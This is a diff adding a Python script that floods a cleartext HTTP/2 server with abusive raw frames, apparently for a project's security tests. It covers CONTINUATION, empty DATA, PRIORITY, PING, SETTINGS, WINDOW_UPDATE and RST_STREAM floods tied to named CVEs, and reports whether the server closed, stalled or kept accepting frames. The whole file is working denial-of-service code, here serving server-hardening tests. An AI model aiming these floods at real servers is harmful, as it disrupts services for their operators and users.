@@ -1,0 +1,125 @@
+#!/usr/bin/env python3
+"""Raw HTTP/2 frames a well-behaved client library would never send, against
+a cleartext (h2c, prior knowledge) server, for the dialer's security tests.
+
+usage: h2flood.py SCENARIO HOST PORT PATH [SECONDS]
+  continuation  HEADERS without END_HEADERS, then CONTINUATION frames of
+                16 KiB each without end (CVE-2024-28182)
+  ping          PING frames without end, the answers never read
+  settings      SETTINGS frames without end, the acks never read
+  empty-data    a POST, then empty DATA frames without END_STREAM (CVE-2019-9518)
+  padded-data   the same with DATA frames of padding only
+  priority      PRIORITY frames for a million idle streams (CVE-2019-9513)
+  window-update WINDOW_UPDATE frames of 1 byte without end
+  reset-frames  RST_STREAM frames for streams that never existed
+Each sends for at most SECONDS (default 10) and prints one line:
+"<scenario> closed <frames> <seconds>" when the server closed or reset the
+connection, "<scenario> stalled ..." when the server stopped reading
+(for the SECONDS after the flood's time, too), "<scenario> open <frames> <seconds>" when it was still taking
+frames at the end."""
+import socket
+import struct
+import sys
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def frame(ftype, flags, stream, payload):
+    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
+        struct.pack(">I", stream) + payload
+
+
+def literal(name, value):
+    out = bytearray([0x00])  # literal without indexing, new name
+    for s in (name.encode(), value.encode()):
+        if len(s) < 127:
+            out += bytes([len(s)])
+        else:  # HPACK integer with a 7-bit prefix
+            out.append(127)
+            n = len(s) - 127
+            while n >= 128:
+                out.append((n & 127) | 128)
+                n >>= 7
+            out.append(n)
+        out += s
+    return bytes(out)
+
+
+def request(host, port, method, path):
+    return b"".join(literal(k, v) for k, v in [
+        (":method", method), (":scheme", "http"), (":path", path),
+        (":authority", "%s:%d" % (host, port))])
+
+
+def frames(scenario, host, port, path):
+    """Yields the frames to send, after the preface and an empty SETTINGS."""
+    if scenario == "continuation":
+        yield frame(1, 0, 1, request(host, port, "GET", path))  # no END_HEADERS
+        junk = literal("x-junk", "j" * 16000)
+        while True:
+            yield frame(9, 0, 1, junk)
+    elif scenario == "ping":
+        i = 0
+        while True:
+            i += 1
+            yield frame(6, 0, 0, struct.pack(">Q", i))
+    elif scenario == "settings":
+        while True:
+            yield frame(4, 0, 0, struct.pack(">HI", 3, 100))  # MAX_CONCURRENT_STREAMS
+    elif scenario == "empty-data":
+        yield frame(1, 0x4, 1, request(host, port, "POST", path))  # END_HEADERS
+        while True:
+            yield frame(0, 0, 1, b"")
+    elif scenario == "padded-data":
+        yield frame(1, 0x4, 1, request(host, port, "POST", path))
+        while True:
+            yield frame(0, 0x8, 1, bytes([200]) + bytes(200))  # PADDED, padding only
+    elif scenario == "priority":
+        sid = 1
+        while True:
+            yield frame(2, 0, sid, struct.pack(">IB", 0, 15))
+            sid = sid + 2 if sid < 2000001 else 1
+    elif scenario == "window-update":
+        yield frame(1, 0x4, 1, request(host, port, "POST", path))
+        while True:
+            yield frame(8, 0, 0, struct.pack(">I", 1))
+    elif scenario == "reset-frames":
+        sid = 1
+        while True:
+            yield frame(3, 0, sid, struct.pack(">I", 8))
+            sid += 2
+    else:
+        raise SystemExit("unknown scenario " + scenario)
+
+
+def main():
+    scenario, host, port, path = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
+    seconds = float(sys.argv[5]) if len(sys.argv) > 5 else 10.0
+    s = socket.create_connection((host, port), timeout=10)
+    s.sendall(PREFACE + frame(4, 0, 0, b""))
+    s.settimeout(seconds + 5)
+    sent = 0
+    t0 = time.monotonic()
+    batch = []
+    try:
+        for f in frames(scenario, host, port, path):
+            batch.append(f)
+            if len(batch) < 64:
+                continue
+            s.sendall(b"".join(batch))
+            sent += len(batch)
+            batch = []
+            if time.monotonic() - t0 > seconds:
+                print("%s open %d %.1f" % (scenario, sent, time.monotonic() - t0))
+                return
+    except socket.timeout:
+        print("%s stalled %d %.1f" % (scenario, sent, time.monotonic() - t0))
+        return
+    except (BrokenPipeError, ConnectionResetError):
+        pass
+    print("%s closed %d %.1f" % (scenario, sent, time.monotonic() - t0))
+
+
+if __name__ == "__main__":
+    main()
